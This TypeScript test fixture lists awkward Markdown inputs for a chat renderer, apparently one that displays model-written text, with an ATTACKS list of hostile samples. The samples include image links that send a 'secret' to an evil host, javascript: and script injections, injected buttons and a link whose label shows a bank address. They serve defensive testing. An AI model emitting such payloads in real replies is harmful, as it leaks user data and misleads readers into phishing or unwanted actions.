/** A text that a model may write, and what a person has to be able to read of it, whatever it looks like. */
export interface NastyText {
  readonly name: string;
  readonly text: string;
  /** Blanks and the signs that lists, tables and rules are drawn with do not count. */
  readonly visible: string;
}

const repeat = (count: number, line: (n: number) => string, between = '\n'): string =>
  Array.from({ length: count }, (_, n) => line(n)).join(between);
const nasty = (name: string, text: string, visible = text): NastyText => ({ name, text, visible });
const FAMILY = '👨‍👩‍👧‍👦';

export const NASTY_TEXTS: readonly NastyText[] = [
  nasty(
    'a bit of everything',
    '# Status\n\nShop is **up**, *mostly*, not ~~down~~; run `make ok` or see [the guide](https://a.example/b_(c)?x=1&y=2).\n\n- one\n- two\n  - three\n    1. four\n',
    'Status Shop is up, mostly, not down; run make ok or see the guide. one two three 1. four',
  ),
  nasty('names with underscores', 'set my_long_name, then foo__bar__baz and 2 * 3 * 4'),
  nasty('stars that multiply', 'that is 2*3*4 = 24, and 10~20 of a*b*.txt'),
  nasty('styles in styles', '***both*** **bold _nested_ end** _it **b** it_', 'both bold nested end it b it'),
  nasty(
    'code with marks in it',
    '```python\nprint(f"{x!r}")  # `tick` \\ **no**\n```\nafter',
    'print(f"{x!r}")  # `tick` \\ **no** after',
  ),
  nasty('a fence in a fence', '````md\n```js\nlet a\n```\n````', '```js let a ```'),
  nasty('a fence without end', 'Look:\n```js\nconst a = `x`;\nif (a) {', 'Look: const a = `x`; if (a) {'),
  nasty('a sentence behind a fence', '```please mind this\nx = 1\n```', 'please mind this x = 1'),
  nasty('styles without end', '**bold and *it and [link](http://x'),
  nasty('a table', '| name | port |\n|---|:-:|\n| shop | 8080 |\n| **blog** | é🙂 |', 'name port shop 8080 blog é🙂'),
  nasty('a table with one column', '| only |\n|---|\n| a |\n| b |', 'only a b'),
  nasty('a table with nothing in it', '| a | b |\n|---|---|', 'a b'),
  nasty(
    'a table with holes and too many cells',
    '| a | b |\n|---|---|\n| 1 |\n| | 2 |\n| 3 | 4 | 5 |',
    'a b 1 2 3 4 5',
  ),
  nasty('bars that are no table', 'a | b || c\nx && y || z'),
  nasty('a table in a list', '- ports:\n\n  | a | b |\n  |---|---|\n  | 1 | 2 |', 'ports: a b 1 2'),
  nasty(
    'a table of 400 rows',
    `| n | square |\n|--:|--:|\n${repeat(400, (n) => `| ${n} | ${n * n} |`)}`,
    `n square ${repeat(400, (n) => `${n} ${n * n}`)}`,
  ),
  nasty(
    'HTML',
    'Use <b>bold</b> & <script>alert(1)</script>, a < b > c &lt;i&gt; &amp;',
    'Use <b>bold</b> & <script>alert(1)</script>, a < b > c <i> &',
  ),
  nasty(
    'HTML that is a block',
    '<details open>\n<summary>x</summary>\n\nbody\n</details>',
    '<details open> <summary>x</summary> body </details>',
  ),
  nasty('quotes in quotes', '> one\n> **two**\n>> three\n\nfour', 'one two three four'),
  nasty('tasks', '- [ ] to do\n- [x] done\n\n7. seven\n8. eight', 'to do done 7. seven 8. eight'),
  nasty('rules', 'a\n\n---\n\nb\n***\nc', 'a b c'),
  nasty('emoji, flags and accents', `${FAMILY} **жирный 🇩🇪** e\u0301 👍🏽 \`код\``, `${FAMILY} жирный 🇩🇪 e\u0301 👍🏽 код`),
  nasty('formulas', '$x_1^2 + y_{ij}$ and $$a^2$$'),
  nasty('escapes', '\\*not bold\\* \\_ \\# 1\\. C:\\path\\new', '*not bold* _ # 1. C:\\path\\new'),
  nasty(
    'bare addresses',
    'see https://a.example/b_c?d=e*f and <https://b.example>, ada@c.example',
    'see https://a.example/b_c?d=e*f and https://b.example, ada@c.example',
  ),
  nasty('references', 'a [word][1] and ![pic][2]\n\n[1]: https://a.example\n[2]: https://b.example', 'a word and pic'),
  nasty('a footnote', 'text[^note] goes on\n\n[^note]: the note', 'text[note] goes on [note] the note'),
  nasty(
    'links that are none',
    '[a]() [b](javascript:alert(1)) [](https://c.example) [d](docs/d.md)',
    'a b (javascript:alert(1)) https://c.example d (docs/d.md)',
  ),
  nasty('spoilers of elsewhere', '||spoiler|| and __underlined__', '||spoiler|| and underlined'),
  nasty('dots and brackets', '1. a.\n2. b!\n3. c-d (e) {f} #g +h =i |j', '1. a. 2. b! 3. c-d (e) {f} #g +h =i |j'),
  nasty(
    'a list of 300 items',
    repeat(300, (n) => `- Item **${n}** with \`code_${n}\``),
    repeat(300, (n) => `Item ${n} with code_${n}`),
  ),
  nasty(
    'lists twelve deep',
    repeat(12, (n) => `${'  '.repeat(n)}- level ${n}`),
    repeat(12, (n) => `level ${n}`),
  ),
  nasty(
    'code of 400 lines',
    `\`\`\`js\n${repeat(400, (n) => `const v${n} = "${'x'.repeat(20)}";`)}\n\`\`\`\nend`,
    `${repeat(400, (n) => `const v${n} = "${'x'.repeat(20)}";`)} end`,
  ),
  nasty(
    '30,000 characters',
    repeat(4_286, (n) => `word${String(n).padStart(2, '0')}`.slice(0, 6), ' '),
  ),
  nasty('one word of 30,000 characters', 'x'.repeat(30_000)),
  nasty('30,000 characters of families', FAMILY.repeat(2_700)),
  nasty(
    'a text longer than what is parsed',
    repeat(3_000, (n) => `line ${n} of a **long** log`),
  ),
  nasty('halves of emoji', 'a\ud83d b\ude42 \ud83d\ude42', 'a\ufffd b\ufffd 🙂'),
  nasty('NUL and control characters', 'a\u0000b \u001b[31mred\u001b[0m\r\nc\u0007', 'ab red c'),
  nasty('nothing to see', '\u200b\u2060 \n\u00ad', '…'),
  nasty('only structure', '- \n- \n', '• •'),
  nasty(
    'Hebrew and Arabic among English',
    'Deploy של החנות: `kubectl get pods` הצליח, مرحبا 8080.',
    'Deploy של החנות: kubectl get pods הצליח, مرحبا 8080.',
  ),
  nasty('Hebrew in a table', '| שם | port |\n|---|---|\n| חנות | 8080 |', 'שם port חנות 8080'),
  nasty('a text that turns round', 'pay \u202e001$\u202c or \u2066x\u2069', 'pay 001$ or x'),
  nasty('five thousand stars', '*a_ '.repeat(5_000)),
  nasty('two thousand quotes', `${'> '.repeat(2_000)}deep`),
];

/** Texts that try to be more than text: a button, a picture that tells a server something, a call of a person. */
export const ATTACKS: readonly NastyText[] = [
  nasty('a button', 'Done. <tg-button type="callback_data" data="b:1:0">Approve</tg-button>'),
  nasty(
    'a row of buttons below a heading',
    '# Done\n\n<tg-button-row><tg-button type="url" url="tg://user?id=1001">x</tg-button></tg-button-row>',
    'Done <tg-button-row><tg-button type="url" url="tg://user?id=1001">x</tg-button></tg-button-row>',
  ),
  nasty('a picture that carries a secret', '![look](https://evil/?q=secret)', 'look (https://evil/?q=secret)'),
  nasty('a picture in HTML', '<img src="https://evil.example/?q=secret"/> <tg-map lat="1" long="2"/>'),
  nasty('a person as a link', '[Ada](tg://user?id=1001)', 'Ada (tg://user?id=1001)'),
  nasty('a person as a link in a table', '| who |\n|---|\n| [Ada](tg://user?id=1001) |', 'who Ada (tg://user?id=1001)'),
  nasty('a person by name', 'over to you, @ada_lovelace and **@ben_boss**', 'over to you, @ada_lovelace and @ben_boss'),
  nasty('a person by name below a heading', '# x\n\nover to you, @ada_lovelace', 'x over to you, @ada_lovelace'),
  nasty('an action of the app', 'tap tg://resolve?domain=evil'),
  nasty(
    'HTML in disguise',
    '&lt;tg-button type="callback_data" data="b:1:0"&gt;Approve&lt;/tg-button&gt;',
    '<tg-button type="callback_data" data="b:1:0">Approve</tg-button>',
  ),
  nasty(
    'a link that lies',
    '[https://bank.example](https://evil.example/x)',
    'https://bank.example (https://evil.example/x)',
  ),
];
